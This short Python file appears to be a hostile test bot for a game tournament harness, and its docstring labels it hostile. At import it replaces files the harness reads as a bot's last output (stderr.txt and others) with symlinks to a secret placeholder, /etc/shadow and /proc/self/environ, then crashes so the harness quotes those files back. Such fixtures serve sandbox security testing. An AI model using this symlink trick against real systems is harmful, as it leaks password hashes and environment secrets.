"""Hostile: leaves links to secrets where the tournament once read a bot's last output
(stderr.txt), then crashes so that the tournament quotes its last output."""
import os

for folder in (".", "/bot", os.path.dirname(os.getcwd())):
    for name, target in (("stderr.txt", "@SECRET@"), ("stderr.log", "/etc/shadow"),
                         ("environ", "/proc/self/environ"), ("readme", "/proc/self/cwd/README.md")):
        try:
            if os.path.lexists(os.path.join(folder, name)):
                os.remove(os.path.join(folder, name))
            os.symlink(target, os.path.join(folder, name))
        except OSError:
            pass


def bot(victory_cell, cell, you):
    print("symlink-bot-last-words")
    os._exit(1)
